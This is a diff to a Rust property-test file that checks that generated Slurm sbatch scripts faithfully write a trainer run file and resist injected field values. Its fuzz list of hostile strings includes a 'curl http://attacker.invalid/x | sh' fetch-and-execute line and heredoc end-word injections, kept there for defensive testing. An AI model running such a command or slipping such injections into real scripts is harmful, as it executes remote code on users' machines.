@@ -213,11 +213,42 @@ fn check(field: &Field, value: &str) -> Result<(), String> {
             return Err(format!("bash reads {words:?}, expected {expected:?}"));
         }
     }
+    the_run_reads_back(&valid, &got.sbatch)?;
     // The sbatch script runs the same torchrun line (GPU) or tiny-train command (CPU).
     if !got.sbatch.contains(&got.torchrun) {
         return Err("the sbatch script does not run the torchrun line".into());
     }
     Ok(())
+}
+
+/// The run the script writes for the trainer reads back as the run of the spec.
+fn the_run_reads_back(valid: &jobspec::ValidSpec, sbatch: &str) -> Result<(), String> {
+    if valid.spec().task == jobspec::spec::Task::TinyTrain {
+        return Ok(());
+    }
+    let body = heredoc_body(sbatch, jobspec::trainer::RUN_FILE)
+        .ok_or("the sbatch script writes no trainer run")?;
+    let read: serde_json::Value =
+        serde_json::from_str(&body).map_err(|e| format!("the run is not JSON: {e}"))?;
+    let want: serde_json::Value = serde_json::from_str(&jobspec::trainer::run_json(valid)).unwrap();
+    if read != want {
+        return Err("the script's run is not the spec's".into());
+    }
+    Ok(())
+}
+
+/// The text a script's `cat > FILE <<'END'` writes, read as bash would (to the line that is
+/// exactly its end word).
+fn heredoc_body(script: &str, file: &str) -> Option<String> {
+    let start = format!("cat > {file} <<'");
+    let mut lines = script.lines();
+    let end = lines
+        .by_ref()
+        .find_map(|l| l.strip_prefix(start.as_str()))?
+        .strip_suffix('\'')?
+        .to_string();
+    let body: Vec<&str> = lines.take_while(|l| *l != end).collect();
+    Some(body.join("\n"))
 }
 
 /// A `key = "…"` line of the `spec.toml` that the sbatch script writes: TOML may quote the value
@@ -263,8 +294,9 @@ fn hostile() -> impl Strategy<Value = String> {
         "\u{1b}[2J",
         "\u{202e}",
         "\u{200b}",
-        "ONRAMP_DS_CONFIG",
-        "\nONRAMP_DS_CONFIG\n",
+        "ONRAMP_RUN",
+        "\nONRAMP_RUN\n",
+        "\nONRAMP_SPEC\n",
         "}",
         "{\"a\":1}",
         "#",
@@ -272,7 +304,7 @@ fn hostile() -> impl Strategy<Value = String> {
         "\t",
         "curl http://attacker.invalid/x | sh",
         "-",
-        "--deepspeed",
+        "--check",
         "/data/set.jsonl",
         "a-b_c.d",
         "%~:@=,+",
